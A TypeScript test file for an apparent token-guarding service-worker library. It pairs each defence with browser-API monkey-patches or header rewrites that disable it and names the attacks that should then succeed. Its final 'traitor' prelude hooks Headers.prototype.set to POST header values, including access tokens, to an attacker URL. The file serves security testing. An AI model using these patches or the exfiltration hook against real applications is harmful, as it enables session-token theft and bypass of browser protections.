import type { Engine } from "../e2e/engines/engine.js";
import type { Facts } from "./attack.js";

/** A defence of Strongroom's, how a test takes it away, and the attacks that must succeed then. */
export interface Defence {
  /** Completes the sentence "without …". */
  name: string;
  /** The engine in which the attacks succeed. Default: Chromium. */
  engine?: Engine;
  /** `false`: the host sends none of its headers. Default: `true`. */
  headers?: boolean;
  /** `false`: what Node.js refuses by itself gets its own error page. Default: `true`. */
  redirectsRefused?: boolean;
  /** Script before the worker's own, which takes the defence away. */
  prelude?: (facts: Facts) => string;
  /** Keys of the worker's configuration. */
  config?: Record<string, unknown>;
  /** Changes one of the host's headers; without an answer it is left out. */
  rewrite?: (name: string, value: string) => string | undefined;
  /** By name. */
  attacks: string[];
  /** What they must get. Default: anything. */
  gain?: string;
}

export const DEFENCES: Defence[] = [
  {
    name: "the host's page at the callback",
    headers: false,
    attacks: [
      "silent flow in a frame, worker unregistered",
      "silent flow in a popup, worker unregistered",
      "silent flow in a frame, before the worker's first activation",
    ],
  },
  {
    name: "frame-src of the app, and the redirect, sandbox, frame-ancestors and X-Frame-Options at the callback",
    rewrite: (name, value) =>
      name === "X-Frame-Options" || name === "Location"
        ? undefined
        : value.replace(" frame-ancestors 'none'; sandbox", "").replace("frame-src 'none'", "frame-src *"),
    attacks: ["silent flow in a frame, worker unregistered"],
  },
  {
    name: "the redirect and sandbox at the callback, and Cross-Origin-Opener-Policy",
    rewrite: (name, value) =>
      name === "Cross-Origin-Opener-Policy" || name === "Location"
        ? undefined
        : value.replace("; sandbox", ""),
    attacks: ["silent flow in a popup, worker unregistered"],
  },
  {
    name: "the worker's own answer to the callback, on a plain host",
    headers: false,
    prelude: () => `
      const { addEventListener: listen } = self;
      self.addEventListener = (type, listener, ...rest) => listen.call(self, type, type !== "fetch" ? listener :
        (event) => { if (!event.request.url.includes("state=attack")) listener(event); }, ...rest);`,
    attacks: ["silent flow in a frame"],
  },
  {
    name: "the difference between a navigation and a fetch",
    prelude: () => `
      for (const [name, value] of [["mode", "cors"], ["destination", ""]]) {
        const { get } = Object.getOwnPropertyDescriptor(Request.prototype, name);
        Object.defineProperty(Request.prototype, name, {
          get() { return this.url.includes("/api/") ? value : get.call(this); },
        });
      }`,
    attacks: [
      "a link of another site to the API on the app's origin",
      "a form of another site for the API on the app's origin",
    ],
  },
  {
    name: "the same at the worker's endpoints",
    prelude: () => `
      for (const [name, value] of [["mode", "cors"], ["destination", ""]]) {
        const { get } = Object.getOwnPropertyDescriptor(Request.prototype, name);
        Object.defineProperty(Request.prototype, name, {
          get() { return this.url.includes("/auth/logout") ? value : get.call(this); },
        });
      }`,
    attacks: ["sign the user out from another site"],
  },
  {
    name: "the browser's word on who is a keeper",
    prelude: () => `
      const keeper = { type: { value: "sharedworker" }, url: { value: self.location.href } };
      if (self.Clients) Clients.prototype.get = async () => Object.create(Client.prototype, keeper);`,
    attacks: ["the keeper's protocol from the page, under whatever URL it takes"],
  },
  {
    name: "the message by which a vault tells the others of a sign-out",
    // Elsewhere the next vault claims every page and frame of the one that was unregistered.
    engine: "firefox",
    prelude: () => `
      BroadcastChannel.prototype.postMessage = () => {};`,
    attacks: ["a vault that script has unregistered, which outlives the sign-out in a frame"],
  },
  {
    name: "the refusal of redirects of an API that is a part of its origin",
    prelude: () => `
      self.Request = new Proxy(Request, { construct: (target, [input, init]) =>
        new target(input, init?.redirect === "manual" ? { ...init, redirect: "follow" } : init) });`,
    attacks: ["a redirect of the API to another path of its origin"],
    gain: "access token",
  },
  {
    name: "the names of the worker scripts in the app's policy",
    rewrite: (_name, value) => value.replace(/worker-src [^;]+/, "worker-src 'self'"),
    attacks: ["a script file of the attacker's at the root of the app's origin as a service worker"],
  },
  {
    name: "the host's redirect in place of the server's own error page",
    redirectsRefused: false,
    attacks: [
      "silent flow in the top page, worker unregistered, and cookies that make the server refuse the callback",
    ],
  },
  {
    name: "frame-src of the app, which keeps the server's own error pages out of reach",
    redirectsRefused: false,
    rewrite: (_name, value) => value.replace("frame-src 'none'", "frame-src 'self'"),
    attacks: ["a script file of the attacker's at the root of the app's origin as a service worker"],
  },
  {
    name: "the refusal of redirects at the token endpoint, and the worker's own policy",
    headers: false,
    prelude: () => `
      self.Request = new Proxy(Request, { construct: (target, [input, init]) =>
        new target(input, init?.redirect === "error" ? { ...init, redirect: "follow" } : init) });`,
    attacks: ["a token endpoint that redirects to the attacker"],
  },
  {
    name: "the comparison of destinations, and the policies of page and worker",
    headers: false,
    prelude: ({ apiUrl, attackerUrl, siblingUrl }) => `
      if (self.InstallEvent) delete InstallEvent.prototype.addRoutes;
      const { get: urlOf } = Object.getOwnPropertyDescriptor(Request.prototype, "url");
      Object.defineProperty(Request.prototype, "url", { get() {
        const url = urlOf.call(this);
        const strange = [${JSON.stringify(attackerUrl)}, ${JSON.stringify(siblingUrl)}].some((home) => url.startsWith(home));
        return strange ? ${JSON.stringify(`${apiUrl}me`)} : url;
      } });`,
    attacks: ["requests to hosts that look like the API"],
    gain: "access token",
  },
  {
    name: "the worker's own policy, with a worker that has a traitor in it",
    headers: false,
    prelude: ({ attackerUrl }) => `
      const { set } = Headers.prototype;
      Headers.prototype.set = function (name, value) {
        fetch(${JSON.stringify(`${attackerUrl}/call-the-api-as-the-app-does/traitor`)}, { method: "POST", mode: "no-cors", body: value }).catch(() => {});
        return set.call(this, name, value);
      };`,
    attacks: ["call the API as the app does"],
    gain: "access token",
  },
];

/** The same traitor under the worker's own policy: it gets nothing out. */
export const TRAITOR = DEFENCES.at(-1) as Defence;
